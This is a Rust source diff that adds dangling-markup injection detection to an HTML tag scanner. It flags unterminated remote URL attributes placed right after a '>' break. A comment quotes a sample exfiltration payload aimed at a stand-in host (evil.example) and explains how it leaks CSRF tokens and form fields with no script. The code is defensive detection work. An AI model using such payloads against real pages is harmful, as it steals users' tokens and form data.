@@ -1056,6 +1056,8 @@ fn tag(
         // which of `&`, `<`, `:` the value holds, noted while its end is found: most values
         // (`class="hljs-keyword"`) hold none, and the rules below that need one are skipped
         let mut vbytes = 0u8;
+        // a quoted value whose closing quote the value never sends
+        let mut unterminated = false;
         if j < b.len() && b[j] == b'=' {
             has_value = true;
             j += 1;
@@ -1075,6 +1077,7 @@ fn tag(
                 let q = b[j];
                 let vs = j + 1;
                 let ve = memchr::memchr(q, &b[vs..]).map_or(b.len(), |p| vs + p);
+                unterminated = ve == b.len();
                 vbytes = value_bytes(&b[vs..ve]);
                 value = s.get(vs..ve).unwrap_or("");
                 i = (ve + 1).min(b.len());
@@ -1176,6 +1179,9 @@ fn tag(
         // a scheme ends with `:`
         if has_value && has_colon && uri::dangerous_in_attribute(value) {
             return (Some("dangerous-uri"), i);
+        }
+        if unterminated && !end_tag && dangling_remote(lname, value) && breaks_in(b, st) {
+            return (Some("dangling-markup"), i);
         }
         if let Some(kind) = framework_attribute(lname) {
             match kind {
@@ -1295,6 +1301,58 @@ fn tag(
         }
         _ => (None, i),
     }
+}
+
+/// The attributes whose value the browser requests as a URL as soon as the element is
+/// parsed or shown (`<img src>`, `<a href>` on a click, a form's `action` on submit).
+const FETCHED_URL_ATTRIBUTES: [&[u8]; 14] = [
+    b"src",
+    b"href",
+    b"action",
+    b"formaction",
+    b"background",
+    b"poster",
+    b"data",
+    b"ping",
+    b"cite",
+    b"longdesc",
+    b"lowsrc",
+    b"dynsrc",
+    b"codebase",
+    b"xlink:href",
+];
+
+/// Whether the tag whose name starts at `st` opens the value or follows a `>` that ends
+/// the tag, attribute or element the value landed in (`"><img …`, `</textarea><a …`): the
+/// value is built to place that tag. A sentence that happens to end in a link being typed
+/// (`Here's a video: <a href="https://…`, a comment cut short) does neither.
+fn breaks_in(b: &[u8], st: usize) -> bool {
+    let before = b[..st.saturating_sub(1)].trim_ascii_end();
+    before.is_empty() || before.ends_with(b">")
+}
+
+/// `"><img src='//evil.example/log?`: a URL attribute (`lname`, lower-case) whose quoted
+/// value (`value`) the value opens with a URL on another host and never closes. The
+/// browser's tokenizer reads the page text that follows, up to the next matching quote, as
+/// the rest of that URL and sends it to that host: the CSRF token or form fields there leak
+/// with no script. A link the value closes (`<a href="https://example.com/">x</a>`) or an
+/// unterminated relative URL (`<a href="/search?q=`) sends nothing to another host.
+fn dangling_remote(lname: &[u8], value: &str) -> bool {
+    if !FETCHED_URL_ATTRIBUTES.contains(&lname) {
+        return false;
+    }
+    let t = value.trim_start().as_bytes();
+    let rest = if t.starts_with(b"//") || t.starts_with(b"\\\\") {
+        &t[2..]
+    } else if t.len() > 8 && t[..8].eq_ignore_ascii_case(b"https://") {
+        &t[8..]
+    } else if t.len() > 7 && t[..7].eq_ignore_ascii_case(b"http://") {
+        &t[7..]
+    } else {
+        return false;
+    };
+    // a host follows (not `///` or an empty authority)
+    rest.first().is_some_and(|c| c.is_ascii_alphanumeric())
 }
 
 /// The attribute names (lower-case) that the name-keyed attribute rules of [`tag`] and
